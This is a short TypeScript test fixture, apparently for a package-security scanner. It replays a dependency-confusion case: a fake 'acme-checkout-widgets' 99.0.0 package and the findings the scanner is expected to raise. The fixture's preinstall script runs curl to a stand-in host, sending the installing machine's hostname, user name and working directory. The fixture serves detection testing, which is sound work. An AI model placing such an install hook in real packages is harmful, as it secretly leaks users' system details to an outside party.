import type { Replay } from '../replay.js'
import { replayAddition } from '../upgrade.js'

export const replay: Replay = replayAddition({
  description:
    'Ninety-two names that looked like those of private packages, with nothing in them but a command before installation that told a ' +
    'stranger’s host which machine and user had asked for them.',
  date: '2025',
  name: 'acme-checkout-widgets',
  added: [
    '99.0.0',
    {
      manifest: {
        main: 'index.js',
        scripts: {
          preinstall: 'curl -s "https://beacon.example/acme-checkout-widgets?h=$(hostname)&u=$(whoami)&d=$(pwd)"',
        },
      },
      files: { 'index.js': 'module.exports = {}\n' },
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'package.json' }],
    ['version-jump', 'high'],
    ['install-script-present', 'medium', { file: 'package.json' }],
  ],
})
